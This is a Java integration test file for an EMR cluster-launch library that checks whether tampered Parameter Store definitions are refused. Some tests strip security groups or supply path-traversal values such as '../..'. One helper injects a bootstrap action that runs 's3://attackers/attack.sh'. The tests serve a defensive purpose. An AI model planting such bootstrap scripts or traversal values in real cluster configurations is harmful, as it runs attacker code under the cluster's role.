package io.github.emrlaunch.core.launch;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.node.ObjectNode;
import io.github.emrlaunch.core.TestApp;
import io.github.emrlaunch.core.TestStack;
import io.github.emrlaunch.core.cluster.ClusterConfiguration;
import io.github.emrlaunch.core.profile.EmrProfile;
import io.github.emrlaunch.definitions.DefinitionDirectory;
import io.github.emrlaunch.definitions.DefinitionName;
import io.github.emrlaunch.definitions.DefinitionType;
import io.github.emrlaunch.definitions.EmrProfileDefinition;
import io.github.emrlaunch.definitions.Json;
import io.github.emrlaunch.local.LocalAws;
import io.github.emrlaunch.local.LocalExecution;
import java.nio.file.Path;
import java.util.Objects;
import java.util.function.Consumer;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import software.amazon.awscdk.App;
import software.amazon.awscdk.Stack;
import software.amazon.awscdk.services.ssm.CfnParameter;

/** Attacks by whoever may write one parameter, once a launch function has been deployed. */
class ChangedDocumentsIT {
    private static final Path DOCUMENTS = Path.of("../emr-launch-definitions/src/test/resources/python-2.0.1");
    private static final DefinitionDirectory STORED = new DefinitionDirectory(DOCUMENTS);
    private static final DefinitionName PROFILE = DefinitionName.of("sse-kms-profile");
    private static final DefinitionName CONFIGURATION = DefinitionName.of("basic-instance-group-cluster");

    @TempDir
    Path assembly;

    private final LocalAws aws = LocalAws.builder().region("eu-west-1").start();

    @AfterEach
    void close() {
        aws.close();
    }

    /** A launch of what the folder says, while Parameter Store says something else. */
    private LocalExecution launch(boolean pinned, Consumer<ObjectNode> profile, Consumer<ObjectNode> configuration)
            throws InterruptedException {
        App app = TestApp.withoutSnapshots(assembly);
        Stack stack = new Stack(app, "Stack");
        createWhatTheProfileNames();
        store(stack, DefinitionType.EMR_PROFILE, PROFILE, profile);
        store(stack, DefinitionType.CLUSTER_CONFIGURATION, CONFIGURATION, configuration);
        EmrLaunchFunction.Builder.create(stack, "Launch")
                .launchFunctionName("launch")
                .emrProfile(EmrProfile.fromStoredProfile(
                        TestStack.loadingFrom(DOCUMENTS, stack), "Profile", PROFILE.name(), PROFILE.namespace()))
                .clusterConfiguration(ClusterConfiguration.fromStoredConfiguration(
                        TestStack.loadingFrom(DOCUMENTS, stack),
                        "Configuration",
                        CONFIGURATION.name(),
                        CONFIGURATION.namespace()))
                .pinDefinitions(pinned)
                .build();
        app.synth();
        String machine = aws.deploy(assembly).stateMachine("default_launch");
        LocalExecution execution = aws.awaitExecution(aws.startExecution(machine, "{}"));
        aws.awaitIdle();
        return execution;
    }

    private void createWhatTheProfileNames() {
        EmrProfileDefinition profile = STORED.get(DefinitionType.EMR_PROFILE, PROFILE);
        aws.existing()
                .subnet("subnet-0123456789abcdef0", false)
                .role(lastPart(profile.roles().serviceRole()))
                .role(lastPart(profile.roles().instanceRole()))
                .role(lastPart(Objects.requireNonNull(profile.roles().autoScalingRole())))
                .instanceProfile(
                        lastPart(Objects.requireNonNull(profile.roles().instanceProfile())),
                        lastPart(profile.roles().instanceRole()))
                .securityGroup(profile.securityGroups().masterGroup())
                .securityGroup(profile.securityGroups().workersGroup())
                .securityGroup(Objects.requireNonNull(profile.securityGroups().serviceGroup()))
                .securityConfiguration(Objects.requireNonNull(profile.securityConfiguration()));
    }

    private static String lastPart(String arn) {
        return arn.substring(arn.lastIndexOf('/') + 1);
    }

    private static void store(Stack stack, DefinitionType<?> type, DefinitionName name, Consumer<ObjectNode> change) {
        ObjectNode document = STORED.get(type, name).toJson();
        change.accept(document);
        CfnParameter.Builder.create(stack, "Stored-" + type.folder())
                .name(type.path(name))
                .type("String")
                .value(Json.write(document))
                .build();
    }

    private void assertRefused(LocalExecution execution, String error, String... words) {
        assertThat(execution.status()).isEqualTo("FAILED");
        assertThat(execution.error()).as(execution.cause()).isEqualTo(error);
        assertThat(execution.cause()).contains(words);
        assertThat(aws.clusters()).isEmpty();
    }

    @ParameterizedTest
    @CsvSource({
        "/, SecurityConfiguration",
        "/SecurityGroups, MasterGroup",
        "/SecurityGroups, WorkersGroup",
        "/SecurityGroups, ServiceGroup"
    })
    void aProfileThatNoLongerProtectsDoesNotLaunch(String parent, String member) throws InterruptedException {
        assertRefused(
                launch(
                        false,
                        document -> (parent.equals("/") ? document : document.withObject(parent)).putNull(member),
                        ChangedDocumentsIT::leave),
                LaunchErrors.LAUNCH_FUNCTION_OUTDATED,
                "EMR profile 'default/sse-kms-profile'",
                member);
    }

    @ParameterizedTest
    @CsvSource({"LogsPath, ../..", "LogsPath, x/../y", "LogsBucket, a/../b", "ArtifactsPath, x/.."})
    void aProfileThatLeadsElsewhereDoesNotLaunch(String member, String value) throws InterruptedException {
        assertRefused(
                launch(false, document -> document.put(member, value), ChangedDocumentsIT::leave),
                LaunchErrors.INVALID_DEFINITION,
                member,
                value);
    }

    private static void leave(ObjectNode document) {
        assertThat(document).isNotEmpty();
    }

    private static void addBootstrapAction(ObjectNode document) {
        ObjectNode action = Json.object().put("Name", "attack");
        action.putObject("ScriptBootstrapAction").put("Path", "s3://attackers/attack.sh");
        document.withObject("/ClusterConfiguration")
                .putArray("BootstrapActions")
                .add(action);
    }

    /** Whoever may write a configuration runs code as the profile's instance role, unless definitions are pinned. */
    @Test
    void aConfigurationWithOtherCodeLaunchesUnlessItIsPinned() throws InterruptedException {
        LocalExecution execution = launch(false, ChangedDocumentsIT::leave, ChangedDocumentsIT::addBootstrapAction);

        assertThat(execution.status()).as(execution.cause()).isEqualTo("SUCCEEDED");
        assertThat(aws.clusters().get(0).request().toString()).contains("s3://attackers/attack.sh");
    }

    @Test
    void aPinnedConfigurationWithOtherCodeDoesNotLaunch() throws InterruptedException {
        assertRefused(
                launch(true, ChangedDocumentsIT::leave, ChangedDocumentsIT::addBootstrapAction),
                LaunchErrors.LAUNCH_FUNCTION_OUTDATED,
                "Cluster configuration 'default/basic-instance-group-cluster'",
                "pinned");
    }

    @Test
    void aPinnedProfileWithOtherGroupsDoesNotLaunch() throws InterruptedException {
        assertRefused(
                launch(
                        true,
                        document -> document.withObject("/SecurityGroups").put("MasterGroup", "sg-0fedcba9876543210"),
                        ChangedDocumentsIT::leave),
                LaunchErrors.LAUNCH_FUNCTION_OUTDATED,
                "EMR profile 'default/sse-kms-profile'",
                "pinned");
    }

    @Test
    void pinnedDefinitionsLaunch() throws InterruptedException {
        LocalExecution execution = launch(true, ChangedDocumentsIT::leave, ChangedDocumentsIT::leave);

        assertThat(execution.status()).as(execution.cause()).isEqualTo("SUCCEEDED");
    }
}
